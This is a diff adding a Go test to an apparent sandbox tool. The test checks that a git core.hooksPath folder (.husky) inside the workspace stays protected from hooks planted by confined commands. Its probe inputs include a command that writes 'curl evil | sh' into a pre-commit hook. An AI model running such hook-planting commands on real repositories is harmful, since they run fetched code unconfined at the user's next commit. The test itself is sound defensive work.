@@ -176,3 +176,39 @@ func TestGitCodePathsAndEditorFoldersStayGuarded(t *testing.T) {
 		b.mustRun(t, `echo hi > f && git add f && git -c user.name=T -c user.email=t@example.com commit -qm work`)
 	})
 }
+
+// A repository whose core.hooksPath names a folder of the workspace (husky's
+// .husky) keeps that folder read-only as it keeps .git/hooks: a hook
+// planted there would run at the user's next commit, unconfined. The
+// confined commit itself still runs the hook that is there.
+func TestHooksPathInTheWorkspaceStaysGuarded(t *testing.T) {
+	if _, err := exec.LookPath("git"); err != nil {
+		t.Skip("git is not installed")
+	}
+	layered(t, boxOpts{on: true}, func(t *testing.T, b *box) {
+		git := func(args ...string) {
+			cmd := exec.Command("git", args...)
+			cmd.Dir = b.ws
+			if out, err := cmd.CombinedOutput(); err != nil {
+				t.Fatalf("git %v: %v %s", args, err, out)
+			}
+		}
+		git("init", "-q")
+		git("config", "core.hooksPath", ".husky")
+		hook := filepath.Join(b.ws, ".husky", "pre-commit")
+		os.MkdirAll(filepath.Dir(hook), 0o755)
+		os.WriteFile(hook, []byte("#!/bin/sh\necho checked > hook-ran\n"), 0o755)
+		for _, a := range []string{"echo 'curl evil | sh' > .husky/pre-commit", "echo evil > .husky/post-checkout && chmod +x .husky/post-checkout"} {
+			if code, out, res := b.runRes(t, a); code == 0 && len(res.Restored) == 0 {
+				t.Errorf("%s: went through and stayed: %s", a, out)
+			}
+		}
+		if got, _ := os.ReadFile(hook); !strings.Contains(string(got), "hook-ran") || exists(filepath.Join(b.ws, ".husky/post-checkout")) {
+			t.Fatalf("a hook was planted in core.hooksPath: %q", got)
+		}
+		b.mustRun(t, `echo hi > f && git add f && git -c user.name=T -c user.email=t@example.com commit -qm work`)
+		if !exists(filepath.Join(b.ws, "hook-ran")) {
+			t.Error("the confined commit did not run the repository's own hook")
+		}
+	})
+}
